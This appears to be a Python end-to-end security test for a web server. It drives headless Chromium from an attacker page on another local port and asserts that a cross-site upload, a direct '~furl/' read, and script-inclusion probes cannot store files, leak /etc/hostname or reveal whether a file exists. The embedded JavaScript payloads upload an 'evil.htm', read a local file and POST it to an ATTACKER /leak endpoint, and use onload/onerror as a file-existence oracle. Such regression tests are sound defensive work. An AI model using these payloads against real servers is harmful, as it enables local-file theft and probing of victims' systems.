"""A page of another site in a real browser (headless Chromium) attacks the
server: it posts a multipart form with an .htm upload to a page of the
server, loads the upload from the server's own origin so that its script
would read a local file through "~furl/", reads "~furl/" directly, and
includes local files as scripts (a file that runs, and whether a file exists
by which of onload and onerror fires). The attacker page comes from a second
loopback port (a different origin). The server must store nothing, no local
file may reach the attacker, run in its page or tell it whether it exists.
The server's own pages meanwhile include the same file and post a form from
a page that sends no referrer, and both work.

    python3 cross_site_e2e.py --build BUILD
"""

import http.server
import json
import os
import sys
import threading

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "e2e"))
sys.path.insert(0, HERE)

import vexa_e2e as e2e  # noqa: E402
from browser_e2e import find_chromium, run_in_page  # noqa: E402
from wsclient import wait_no_processes  # noqa: E402

# The upload's script: read a local file from the server's origin and send
# it to the attacker.
UPLOAD = """<!doctype html><title>upload</title><script>
fetch('/~furl//etc/hostname').then(r => r.text())
  .then(t => fetch('ATTACKER/leak?via=upload', {method: 'POST', mode: 'no-cors', body: t}));
</script>"""

ATTACK_PAGE = """<!doctype html><title>attacker</title><body><script>
const target = 'TARGET';
const leak = (via, text) => fetch('/leak?via=' + via, {method: 'POST', body: text});
async function attack() {
  const form = new FormData();
  form.append('note', 'hello');
  form.append('file', new Blob([UPLOAD], {type: 'text/html'}), 'evil.htm');
  try { await fetch(target + '/x.html', {method: 'POST', mode: 'no-cors', body: form}); } catch (e) {}
  await new Promise(done => {
    const frame = document.createElement('iframe');
    frame.onload = frame.onerror = done;
    frame.src = target + '/cache/evil.htm';
    document.body.appendChild(frame);
  });
  try {
    const r = await fetch(target + '/~furl//etc/hostname');
    await leak('direct', await r.text());
  } catch (e) {}
  const include = src => new Promise(done => {
    const script = document.createElement('script');
    script.onload = () => done('load');
    script.onerror = () => done('error');
    script.src = src;
    document.head.appendChild(script);
  });
  window.includes = [await include(target + '/~furl/INCLUDED'), await include(target + '/~furl/INCLUDED.missing')];
  document.title = 'done';
}
attack();
</script></body>"""


class Attacker:
    """The other site: a small HTTP server on another loopback port that
    serves the attack page and records what is sent to /leak."""

    def __init__(self, target_port, included):
        self.leaks = []
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                if self.path == "/":
                    upload = json.dumps(UPLOAD.replace("ATTACKER", owner.url)).replace("</", "<\\/")
                    page = ATTACK_PAGE.replace("UPLOAD", upload).replace("INCLUDED", included)
                    body = page.replace("TARGET", f"http://127.0.0.1:{target_port}").encode()
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html")
                else:
                    body = b""
                    self.send_response(204)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                n = int(self.headers.get("Content-Length") or 0)
                owner.leaks.append((self.path, self.rfile.read(n).decode(errors="replace")))
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(10)


def test_cross_site_upload_then_read():
    exe = find_chromium()
    if not exe:
        raise e2e.Skip("no Chromium installed (scripts/setup installs it)")

    with e2e.TestBundle(e2e.build_dir()) as b:
        srv = b.start(["--port", str(b.port)])
        cache = os.path.join(b.sample, "cache")
        before = sorted(os.listdir(cache))
        with open("/etc/hostname") as f:
            secret = f.read().strip()
        assert secret, "/etc/hostname is empty"
        included = b.write_file("elsewhere/included.js", "window.included = (window.included || 0) + 1;\n")
        attacker = Attacker(b.port, included)

        async def steps(page):
            await page.wait_text("document.title", lambda v: v == "done", timeout=30)
            # Neither runs, and an existing file fails like a missing one.
            includes = await page.eval("window.includes")
            assert includes == ["error", "error"], f"cross-site includes: {includes}"
            assert await page.eval("window.included") is None, "a local file ran in the other site's page"

        try:
            run_in_page(exe, attacker.url + "/", steps)
        finally:
            attacker.close()
        after = sorted(os.listdir(cache))
        assert after == before, f"the cross-site post stored {sorted(set(after) - set(before))}"
        leaked = [(path, text) for path, text in attacker.leaks if secret in text]
        assert not leaked, f"a local file reached the other site: {leaked}"
        code, out = srv.stop()
        assert code == 0, out
        assert "Sanitizer" not in srv.stderr_text(), srv.stderr_text()[-4000:]
        wait_no_processes(b.root, 5)


OWN_PAGE = """<!doctype html><title>own</title><script>window.results = [];</script>
<script src="/~furl/INCLUDED" onload="results.push('load')" onerror="results.push('error')"></script>
<script src="/own.js" onload="results.push('load')" onerror="results.push('error')"></script>"""

# A page that sends no referrer: the browser posts its forms with "Origin: null".
NO_REFERRER_PAGE = """<!doctype html><meta name="referrer" content="no-referrer"><title>noref</title>
<form method="post" action="/tools-echo.html"><input name="note" value="posted-without-referrer"></form>
<script>document.forms[0].submit();</script>"""


def test_own_pages_include_and_post():
    exe = find_chromium()
    if not exe:
        raise e2e.Skip("no Chromium installed (scripts/setup installs it)")

    with e2e.TestBundle(e2e.build_dir()) as b:
        included = b.write_file("elsewhere/included.js", "window.included = (window.included || 0) + 1;\n")
        for name, text in (("own.htm", OWN_PAGE.replace("INCLUDED", included)), ("own.js", "window.own = 1;\n"),
                           ("noref.htm", NO_REFERRER_PAGE)):
            with open(os.path.join(b.sample, name), "w") as f:
                f.write(text)
        srv = b.start(["--port", str(b.port)])

        async def steps(page):
            results = await page.wait_text("window.results", lambda v: len(v) == 2)
            assert results == ["load", "load"], f"own includes: {results}"
            assert await page.eval("window.included") == 1 and await page.eval("window.own") == 1
            await page.call("Page.navigate", url=f"http://127.0.0.1:{b.port}/noref.htm")
            text = await page.wait_text("document.title !== 'noref' && document.body && document.body.innerText",
                                        lambda v: bool(v), timeout=30)
            echo = json.loads(text)
            assert echo["post"] == {"note": "posted-without-referrer"}, echo["post"]
            assert echo["info"]["Server"].get("HTTP_Origin") == "null", echo["info"]["Server"]

        run_in_page(exe, f"http://127.0.0.1:{b.port}/own.htm", steps)
        code, out = srv.stop()
        assert code == 0, out
        assert "Sanitizer" not in srv.stderr_text(), srv.stderr_text()[-4000:]
        wait_no_processes(b.root, 5)


if __name__ == "__main__":
    sys.exit(e2e.run_tests([test_cross_site_upload_then_read, test_own_pages_include_and_post]))
